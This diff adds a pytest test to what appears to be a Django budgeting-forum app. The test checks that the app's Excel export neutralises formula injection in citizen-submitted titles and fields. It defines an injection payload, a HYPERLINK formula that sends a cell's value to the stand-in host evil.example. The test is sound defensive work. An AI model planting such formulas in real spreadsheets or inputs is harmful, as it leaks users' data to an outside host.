@@ -217,3 +217,27 @@ def test_forum_rank_by_number_with_htmx(client, make_proposal, kelurahan_officer
     r = client.post(reverse("musrenbang:forum-rank"), {"proposal": "x", "rank": "y"},
                     HTTP_HX_REQUEST="true")
     assert r.status_code == 200 and "alert" in r.content.decode()
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&B7,"Klik")'
+
+
+def test_ranked_excel_writes_formula_titles_as_text(client, make_proposal, kelurahan_officer,
+                                                    kelurahan, cycle):
+    """CSV/formula injection: a citizen's title never becomes a live formula."""
+    evil = make_proposal(Status.VERIFIED, title=EVIL)
+    plain = make_proposal(Status.VERIFIED, title="@SUM(A1:A9) lampu jalan")
+    services.forum_rank_set(actor=kelurahan_officer, level=Forum.Level.KELURAHAN,
+                            region=kelurahan, cycle=cycle, ordered_ids=[evil.pk, plain.pk])
+    client.force_login(kelurahan_officer)
+    client.post(reverse("musrenbang:forum"), {"held_on": "2026-02-03", "place": "-Aula",
+                                              "participant_count": "41", "notes": "+62 812"})
+    ws = load_workbook(io.BytesIO(client.get(reverse("musrenbang:forum-xlsx")).content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    values = [c.value for c in cells]
+    assert "'" + EVIL in values and "'@SUM(A1:A9) lampu jalan" in values
+    assert "'-Aula" in values and "'+62 812" in values
+    # Numbers stay numbers: rank, support count and cost are typed cells.
+    rank_cells = [c for c in cells if c.column == 1 and c.data_type == "n"]
+    assert [c.value for c in rank_cells] == [1, 2]
